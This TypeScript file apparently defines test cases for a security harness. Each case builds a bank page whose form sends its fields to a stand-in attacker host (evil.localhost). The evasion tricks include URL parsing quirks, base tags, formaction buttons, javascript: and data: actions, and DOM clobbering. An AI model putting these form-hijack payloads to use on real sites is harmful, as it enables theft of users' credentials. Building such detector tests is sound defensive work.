import type { Arena } from '../arena.ts';
import { type Attack, page } from '../attack.ts';
import type { PageParts } from '../pages.ts';

/** Ways a form can lead elsewhere. */
const ACTIONS = (arena: Arena): Record<string, PageParts> => {
  const { origin, port } = new URL(arena.bankUrl());
  const evil = arena.attacker.url('/take');
  return {
    'to another origin': { action: evil },
    'to another origin, without the scheme': { action: evil.replace('http:', '') },
    'by backslashes': { action: evil.replaceAll('/', '\\') },
    'by white space in the address': { action: ` ht\ntp:\t//evil.localhost:${arena.attacker.port}/take ` },
    'with the bank as its user name': { action: `${origin}@evil.localhost:${arena.attacker.port}/take` },
    'to a host that begins as the bank': { action: `http://senpoku.localhost.evil.localhost:${port}/take` },
    'to a port that begins as the bank’s': { action: `${origin}0/take`.replace(/:\d+0\//, ':1/') },
    'to another scheme': { action: `${origin.replace('http:', 'https:')}/ib/next` },
    'to data': { action: 'data:text/html,taken' },
    'to a script': { action: "javascript:fetch('/')" },
    'by mail': { action: 'mailto:evil@mail.example' },
    'by another base': { head: `<base href="${evil}">`, action: 'next' },
    'behind a field called action': {
      action: evil,
      after: '<input type="hidden" form="form" name="action" value="/ib/next">',
    },
    'behind fields called action and getAttribute': {
      action: evil,
      after:
        '<input type="hidden" form="form" name="action"><input type="hidden" form="form" name="getAttribute">',
    },
    'by a button': { button: ` formaction="${evil}"` },
    'by a picture to press': { after: `<input type="image" alt="次へ" form="form" formaction="${evil}">` },
    'by a button far from the form': { after: `<button form="form" formaction="${evil}">次へ</button>` },
    'by belonging to another form': {
      field: ' form="other"',
      after: `<form id="other" action="${evil}"></form>`,
    },
    'by a button, both hidden behind names': {
      button: ` formaction="${evil}" name="elements"`,
      after: '<input type="hidden" form="form" name="formAction">',
    },
  };
};

const form = (name: string): Attack =>
  page(`a form that leads ${name}`, (arena) => ACTIONS(arena)[name] ?? {}, 'unrecognised: field off-origin');

export const FORMS_ELSEWHERE: readonly Attack[] = [
  'to another origin',
  'to another origin, without the scheme',
  'by backslashes',
  'by white space in the address',
  'with the bank as its user name',
  'to a host that begins as the bank',
  'to a port that begins as the bank’s',
  'to another scheme',
  'to data',
  'to a script',
  'by mail',
  'by another base',
  'behind a field called action',
  'behind fields called action and getAttribute',
  'by a button',
  'by a picture to press',
  'by a button far from the form',
  'by belonging to another form',
  'by a button, both hidden behind names',
].map(form);
